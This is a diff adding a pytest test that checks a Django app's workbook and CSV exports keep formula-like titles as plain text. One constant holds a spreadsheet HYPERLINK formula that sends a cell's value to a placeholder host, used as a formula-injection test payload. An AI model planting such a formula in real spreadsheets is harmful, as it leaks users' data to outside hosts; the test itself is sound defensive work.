@@ -377,3 +377,30 @@ def test_query_count_does_not_grow_with_rows(hall, django_assert_max_num_queries
     assert _queries(hall) == one
     with django_assert_max_num_queries(15):
         tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29))
+
+
+FORMULA = '=HYPERLINK("http://example.invalid/?leak="&B2,"点我查看")'
+
+
+def test_titles_that_look_like_formulas_stay_text(hall, story):
+    """A resident's title starting with = + - @ is text in the workbook and in the CSV."""
+    Proposal.objects.filter(pk=story["proposal"].pk).update(title=FORMULA)
+    GovernanceTask.objects.filter(pk=story["task"].pk).update(title="+1+1")
+    Ballot.objects.filter(pk=story["ballot"].pk).update(title="@SUM(A1:A9)")
+    Objection.objects.filter(resolution=story["resolution"]).update(reason="-2+3")
+    data = workbook_bytes(hall, OCTOBER, tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29)))
+    wb = load_workbook(io.BytesIO(data))
+    cells = [c for ws in wb.worksheets for row in ws.iter_rows() for c in row]
+    assert not [c.coordinate for c in cells if c.data_type == "f"]
+    assert FORMULA in [c.value for c in cells]
+    for sheet, (headers, rows) in tz.all_tables(hall, OCTOBER, today=date(2026, 11, 29)):
+        text = csv_bytes(headers, rows).decode("utf-8-sig")
+        for line in csv.reader(io.StringIO(text)):
+            for value in line:
+                assert not value.startswith(("=", "+", "@")), (sheet.title, value)
+                assert not value.startswith("-") or value.lstrip("-").replace(".", "").isdigit()
+    headers, rows = tz.sheet_table(
+        tz.SHEETS_BY_KEY["tasks"], hall, OCTOBER, today=date(2026, 11, 29)
+    )
+    table = list(csv.reader(io.StringIO(csv_bytes(headers, rows).decode("utf-8-sig"))))
+    assert dict(zip(table[0], table[1], strict=True))["任务名称"] == "'+1+1"
